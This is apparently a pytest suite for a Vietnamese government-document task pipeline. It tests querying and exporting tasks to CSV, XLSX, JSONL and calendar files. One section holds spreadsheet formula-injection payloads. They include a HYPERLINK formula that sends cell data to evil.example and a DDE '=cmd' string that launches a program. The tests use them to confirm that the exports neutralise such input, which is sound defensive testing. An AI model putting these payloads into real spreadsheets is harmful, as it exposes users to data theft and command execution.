"""Tasks across the corpus and their export: re-read every format and check it."""

import json

import pytest

from vanban.pipeline.corpus import db
from vanban.pipeline.corpus.export import EXPORTERS, XLSX_MAX_WIDTH, write_export
from vanban.pipeline.corpus.ingest import ingest
from vanban.pipeline.corpus.tasks import query_tasks

from .conftest import REALDOCS, ROOT, SAMPLES, need_realdocs


@pytest.fixture(scope="module")
def corpus_path(tmp_path_factory):
    need_realdocs()
    path = tmp_path_factory.mktemp("corpus") / "corpus.db"
    inputs = [SAMPLES / "000_1e1698cb1e74ad37.txt", SAMPLES / "000_1e1698cb1e74ad37.docx", SAMPLES / "004_d5409b736efdaf35.txt",
              REALDOCS / "CV-UBND-bao-ve-khoang-san-chua-khai-thac.docx", REALDOCS / "CV-7432-UBND-XD-21-7-2026-trien-khai-QD-1074.pdf"]
    ingest([str(p) for p in inputs], path, jobs=2, progress=False)
    return path


@pytest.fixture(scope="module")
def corpus(corpus_path):
    return db.connect(corpus_path)


def test_command_line_over_the_corpus(corpus_path, tmp_path, capsys):
    from vanban.pipeline.cli import main
    c = ["--corpus", str(corpus_path)]
    assert main(["search", "phong chay chua chay", *c]) == 0
    out = capsys.readouterr().out
    assert out.startswith("7432/UBND-XD | 2026-07-21 | Ủy ban nhân dân tỉnh Lào Cai | cong_van") and "«phòng cháy" in out
    assert main(["tasks", "--owner", "UBND các xã, phường", "--role", "lead", *c]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].split() == ["due", "document", "ref", "lead", "task"] and len(out) > 1
    assert all("7432/UBND-XD" in line or "-" in line.split()[1] for line in out[1:])
    assert main(["owners", "VP UBND xã", "--spellings", *c]) == 0
    out = capsys.readouterr().out
    assert "Văn phòng Ủy ban nhân dân xã" in out and "← Văn phòng UBND xã" in out
    assert main(["export", "tasks", "--format", "ics", "--doc", "7432/UBND-XD", "-o", str(tmp_path / "t.ics"), *c]) == 0
    assert (tmp_path / "t.ics").read_text("utf-8").count("BEGIN:VTODO") == 5    # the letter's five assignments (its gold)
    assert main(["failures", *c]) == 0 and capsys.readouterr().out == ""
    missing = tmp_path / "typo.db"
    assert main(["tasks", "--corpus", str(missing)]) == 2 and not missing.exists()
    assert "no corpus at" in capsys.readouterr().err


def test_owner_filter_is_normalised(corpus):
    a = query_tasks(corpus, owner="VP UBND xã")
    b = query_tasks(corpus, owner="Văn phòng Ủy ban nhân dân xã")
    c = query_tasks(corpus, owner="van phong uy ban nhan dan xa")
    assert [t["id"] for t in a] == [t["id"] for t in b] == [t["id"] for t in c]
    assert len(a) == 16                       # 15 table rows + prose IV.1 of seed 000, once despite two copies
    assert all(any("Văn phòng" in x for x in t["lead"] + t["support"]) for t in a)


def test_owner_registry_has_one_id_per_body(corpus):
    from vanban.pipeline.corpus.owners import owner_registry
    registry = owner_registry(corpus)
    names = [e.name for e in registry]
    assert len(names) == len(set(names))
    [office] = owner_registry(corpus, "VP UBND xã")
    assert office.name == "Văn phòng Ủy ban nhân dân xã Bình Yên" and "Văn phòng UBND xã" in office.spellings
    led = [t for t in query_tasks(corpus, owner="VP UBND xã") if any("Văn phòng" in x for x in t["lead"])]
    assert office.lead == len(led) == 16 and office.support == 2                # counted once despite .txt + .docx
    [culture] = owner_registry(corpus, "Công chức Văn hóa - Xã hội")
    assert culture.documents == 2 and len(culture.spellings) >= 2           # "Văn hoá- Xã hội" and "Văn hóa- Xã hội"


def test_owner_role_filter(corpus):
    every = query_tasks(corpus, owner="Văn phòng - Thống kê")
    lead = query_tasks(corpus, owner="Văn phòng - Thống kê", role="lead")
    support = query_tasks(corpus, owner="Văn phòng - Thống kê", role="support")
    assert lead and support and {t["id"] for t in lead} | {t["id"] for t in support} == {t["id"] for t in every}
    assert all(any("Thống kê" in x for x in t["lead"]) for t in lead)
    assert all(any("Thống kê" in x for x in t["support"]) for t in support)


def test_deadline_filters(corpus):
    due = query_tasks(corpus, due_before="2021-12-31", due_after="2021-12-31")
    assert due and all(t["deadline"]["end"] == "2021-12-31" for t in due)
    overdue = query_tasks(corpus, overdue=True, as_of="2024-01-01")
    assert overdue and all(t["deadline"]["end"] < "2024-01-01" for t in overdue)
    assert not any(t["deadline"]["kind"] in ("recurring", "event", "unspecified") for t in overdue)
    assert query_tasks(corpus, overdue=True, as_of="2000-01-01") == []
    by_doc = query_tasks(corpus, doc="7432/UBND-XD")
    assert {t["document"]["number"] for t in by_doc} == {"7432/UBND-XD"} and len(by_doc) == 5


def test_exports_reread(corpus, tmp_path):
    import pandas as pd
    import jsonschema
    from icalendar import Calendar
    tasks = query_tasks(corpus)
    assert len({t["id"] for t in tasks}) == len(tasks)
    for fmt in EXPORTERS:
        write_export(fmt, tasks, tmp_path / f"tasks.{fmt}", vietnamese_headers=(fmt == "xlsx"))
    raw = (tmp_path / "tasks.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                                # BOM for Excel
    frame = pd.read_csv(tmp_path / "tasks.csv", encoding="utf-8-sig")
    assert len(frame) == len(tasks) and frame["id"].tolist() == [t["id"] for t in tasks]
    assert "Văn phòng UBND xã" in set(frame["lead"].dropna())
    sheet = pd.read_excel(tmp_path / "tasks.xlsx")
    assert list(sheet.columns)[:3] == ["Mã nhiệm vụ", "Văn bản", "Cơ quan ban hành"] and len(sheet) == len(tasks)
    schema = json.loads((ROOT / "schemas" / "task.schema.json").read_text("utf-8"))
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    lines = (tmp_path / "tasks.jsonl").read_text("utf-8").splitlines()
    assert len(lines) == len(tasks)
    for line in lines:
        assert list(validator.iter_errors(json.loads(line))) == []
    cal = Calendar.from_ical((tmp_path / "tasks.ics").read_bytes())
    todos = [c for c in cal.walk() if c.name == "VTODO"]
    # one VTODO per task, or one per milestone when a deadline sets several
    assert len(todos) == sum(max(1, len(t["deadline"].get("milestones") or [])) for t in tasks)
    by_uid = {str(t["uid"]): t for t in todos}

    def rule_parts(rule: str) -> set[str]:          # icalendar writes the parts in its own order
        return set(rule.split(";"))

    for t in tasks:
        milestones = t["deadline"].get("milestones") or []
        dated = [(f"{t['id']}@vanban", t["deadline"])] if not milestones else \
            [(f"{t['id']}-m{n}@vanban", m) for n, m in enumerate(milestones, 1)]
        for uid, dl in dated:
            todo = by_uid[uid]
            if dl["end"]:
                assert todo["due"].dt.isoformat() == dl["end"]
            if dl["recurrence"]:
                assert rule_parts(todo["rrule"].to_ical().decode()) == rule_parts(dl["recurrence"])
    assert any("rrule" in todo for todo in todos)                       # "Định kỳ hàng quý" in seed 004


def test_task_ids_survive_reingest(tmp_path):
    first, second = tmp_path / "a.db", tmp_path / "b.db"
    for corpus in (first, second):
        ingest([str(SAMPLES / "000_1e1698cb1e74ad37.txt")], corpus, jobs=1, progress=False)
    ids = [[r[0] for r in db.connect(c).execute("SELECT id FROM tasks ORDER BY id")] for c in (first, second)]
    assert ids[0] == ids[1] and len(ids[0]) == 30


# --- spreadsheets: no formulas from document text, a sheet a tracker can use ----------------------
def _task(tid: str, description: str, lead=("Văn phòng UBND xã",), deadline=None, document=None) -> dict:
    """A task as query_tasks returns it, for exports of hand-made text."""
    deadline = deadline or {"text": "Năm 2021", "kind": "period", "start": "2021-01-01", "end": "2021-12-31",
                            "recurrence": None}
    document = document or {"sha256": "0" * 64, "number": "1/KH-UBND", "issuer": "UBND xã", "issued_date": "2021-09-22",
                            "doc_type": "ke_hoach", "title": "Kế hoạch", "path": "kh.txt"}
    return {"id": tid, "ref": "1", "group": None, "description": description, "lead": list(lead),
            "support": ["Các ban, ngành, đoàn thể"], "owners": [], "deadline": deadline,
            "source": {"kind": "table", "page": 1, "start": 0, "end": 10}, "citation_ids": [], "document": document}


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1",
           "\r=1+1", "- Tuyên truyền, phổ biến Kế hoạch", "＝1+1"]


def test_formula_text_is_neutralised_in_csv(tmp_path):
    import pandas as pd
    tasks = [_task(f"t{i:016x}", text) for i, text in enumerate(HOSTILE)]
    tasks.append(_task("tffffffffffffffff", "Bám sát, triển khai", lead=["=cmd|' /C calc'!A0"]))
    write_export("csv", tasks, tmp_path / "t.csv")
    frame = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", keep_default_na=False)
    assert frame["description"].tolist()[:len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert frame["description"].iloc[-1] == "Bám sát, triển khai"            # ordinary text untouched
    assert frame["lead"].iloc[-1] == "'=cmd|' /C calc'!A0"
    assert frame["support"].iloc[0] == "Các ban, ngành, đoàn thể"              # commas as they are, no "\\,"
    assert frame["deadline_end"].iloc[0] == "2021-12-31"                      # dates are not document text


def test_formula_text_is_a_string_cell_in_xlsx(tmp_path):
    import openpyxl
    import pandas as pd
    tasks = [_task(f"t{i:016x}", text) for i, text in enumerate(HOSTILE)]
    tasks.append(_task("tffffffffffffffff", "Bám sát, triển khai", lead=["=cmd|' /C calc'!A0"]))
    write_export("xlsx", tasks, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]              # no formula anywhere
    header = [c.value for c in ws[1]]
    description = [ws.cell(r, header.index("description") + 1) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in description[:len(HOSTILE)]] == HOSTILE           # the visible text is the document's
    assert all(c.data_type == "s" and c.quotePrefix for c in description[:len(HOSTILE)])
    assert not description[-1].quotePrefix
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and "\\" in c.value]   # no "\\," escapes
    sheet = pd.read_excel(tmp_path / "t.xlsx", keep_default_na=False)
    assert sheet["description"].tolist()[:len(HOSTILE)] == HOSTILE and sheet["lead"].iloc[-1] == "=cmd|' /C calc'!A0"
    assert sheet["support"].iloc[0] == "Các ban, ngành, đoàn thể"


def test_control_characters_do_not_break_the_xlsx(tmp_path):
    import pandas as pd
    write_export("xlsx", [_task("t0000000000000003", "Tuyên truyền\x0bphổ biến\x0c\x00 kế hoạch")], tmp_path / "t.xlsx")
    assert pd.read_excel(tmp_path / "t.xlsx")["description"].tolist() == ["Tuyên truyền phổ biến   kế hoạch"]


def test_xlsx_is_a_tracker(corpus, tmp_path):
    import datetime as dt
    import openpyxl
    import pandas as pd
    from openpyxl.utils import get_column_letter
    tasks = query_tasks(corpus)
    write_export("xlsx", tasks, tmp_path / "t.xlsx", vietnamese_headers=True)
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    header = [c.value for c in ws[1]]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{get_column_letter(len(header))}{len(tasks) + 1}"
    due = header.index("Hạn") + 1
    for r, t in enumerate(tasks, 2):
        cell = ws.cell(r, due)
        if t["deadline"]["end"]:
            assert cell.is_date and cell.number_format == "dd/mm/yyyy"
            assert cell.value.date() == dt.date.fromisoformat(t["deadline"]["end"])
        else:
            assert cell.value is None
    widths = {h: ws.column_dimensions[get_column_letter(i)].width for i, h in enumerate(header, 1)}
    assert all(len(h) < w <= XLSX_MAX_WIDTH for h, w in widths.items())
    assert widths["Nội dung công việc"] == XLSX_MAX_WIDTH > widths["STT"]      # long text capped, short columns narrow
    sheet = pd.read_excel(tmp_path / "t.xlsx")
    assert pd.api.types.is_datetime64_any_dtype(sheet["Hạn"]) and pd.api.types.is_datetime64_any_dtype(sheet["Bắt đầu"])


# --- ICS: a recurring to-do always has its DTSTART -------------------------------------------------
def _todos(path) -> dict:
    from icalendar import Calendar
    return {str(c["uid"]): c for c in Calendar.from_ical(path.read_bytes()).walk() if c.name == "VTODO"}


def test_every_rrule_has_a_dtstart(corpus, tmp_path):
    tasks = query_tasks(corpus)
    write_export("ics", tasks, tmp_path / "t.ics")
    todos = _todos(tmp_path / "t.ics")
    recurring = [todo for todo in todos.values() if "rrule" in todo]
    assert len(recurring) == 2 and all("dtstart" in todo for todo in recurring)
    # seed 004 is an undated draft: its quarterly tasks count from the period its title names ("năm 2022 …")
    assert {todo["dtstart"].dt.isoformat() for todo in recurring} == {"2022-01-01"}


def test_a_recurring_todo_starts_on_its_first_occurrence_after_the_issue_date(tmp_path):
    import datetime as dt
    from dateutil.rrule import rrulestr
    yearly = {"text": "định kỳ trước ngày 30 tháng 6 hằng năm", "kind": "recurring", "start": None, "end": None,
              "recurrence": "FREQ=YEARLY;BYMONTH=6;BYMONTHDAY=30"}
    doc = {"sha256": "0" * 64, "number": "2/QĐ-UBND", "issuer": "UBND tỉnh", "issued_date": "2025-01-02",
           "doc_type": "quyet_dinh", "title": "Quyết định ban hành quy chế", "path": "qd.txt"}
    write_export("ics", [_task("t0000000000000001", "Báo cáo kết quả", deadline=yearly, document=doc)], tmp_path / "t.ics")
    [todo] = _todos(tmp_path / "t.ics").values()
    start = todo["dtstart"].dt
    assert start == dt.date(2025, 6, 30)                       # the rule's own day, not an extra occurrence
    rule = rrulestr(todo["rrule"].to_ical().decode(), dtstart=dt.datetime.combine(start, dt.time()))
    assert [d.date().isoformat() for d in rule[:2]] == ["2025-06-30", "2026-06-30"]


def test_a_recurring_task_without_any_date_is_a_plain_todo(tmp_path):
    quarterly = {"text": "định kỳ hàng quý", "kind": "recurring", "start": None, "end": None,
                 "recurrence": "FREQ=MONTHLY;INTERVAL=3"}
    doc = {"sha256": "0" * 64, "number": None, "issuer": "UBND xã", "issued_date": None,
           "doc_type": "ke_hoach", "title": "Kế hoạch khắc phục tồn tại", "path": "kh.txt"}
    write_export("ics", [_task("t0000000000000002", "Báo cáo tiến độ", deadline=quarterly, document=doc)], tmp_path / "t.ics")
    [todo] = _todos(tmp_path / "t.ics").values()
    assert "rrule" not in todo and "dtstart" not in todo and "due" not in todo
    assert "Lặp lại: định kỳ hàng quý (FREQ=MONTHLY;INTERVAL=3)" in str(todo["description"])


# --- one registry for the CLI and the web app ------------------------------------------------------
def test_cli_choices_come_from_the_registry(corpus_path, tmp_path, capsys):
    from vanban.pipeline.cli import main
    with pytest.raises(SystemExit) as exit_:
        main(["export", "tasks", "--format", "xls", "-o", str(tmp_path / "t.xls"), "--corpus", str(corpus_path)])
    assert exit_.value.code == 2
    assert f"choose from {', '.join(repr(f) for f in EXPORTERS)}" in capsys.readouterr().err
    for fmt in EXPORTERS:
        assert main(["export", "tasks", "--format", fmt, "-o", str(tmp_path / f"t.{fmt}"), "--corpus", str(corpus_path)]) == 0
        assert (tmp_path / f"t.{fmt}").stat().st_size > 0
    assert not list(tmp_path.glob(".*.tmp"))                                  # written atomically, nothing left over
    with pytest.raises(FileNotFoundError, match="no such folder: '.*missing'"):
        write_export("csv", [], tmp_path / "missing" / "t.csv")                # a typo in -o makes no folder
    assert not (tmp_path / "missing").exists()


def test_web_downloads_come_from_the_registry(corpus_path, tmp_path):
    import io
    import pandas as pd
    from vanban.pipeline.web.app import create_app
    client = create_app(corpus_path).test_client()
    page = client.get("/tasks").get_data(as_text=True)
    for fmt, exporter in EXPORTERS.items():
        assert f"format={fmt}&amp;" in page
        response = client.get(f"/tasks/export?format={fmt}&vi=1&doc=7432/UBND-XD")
        assert response.status_code == 200 and response.mimetype == exporter.mime
        assert response.mimetype_params.get("charset", "utf-8") == "utf-8"
        assert f"filename={exporter.file_name()}" in response.headers["Content-Disposition"]
        expected = exporter.render(query_tasks(db.connect(corpus_path), doc="7432/UBND-XD"), True)
        if fmt == "xlsx":                # the file's own saved-at time differs: compare what the sheet holds
            assert pd.read_excel(io.BytesIO(response.data)).equals(pd.read_excel(io.BytesIO(expected)))
        else:
            assert response.data == expected
    sheet = pd.read_excel(io.BytesIO(client.get("/tasks/export?format=xlsx&vi=1&doc=7432/UBND-XD").data))
    assert len(sheet) == 5 and "Nội dung công việc" in sheet.columns
    assert client.get("/tasks/export?format=exe").status_code == 400
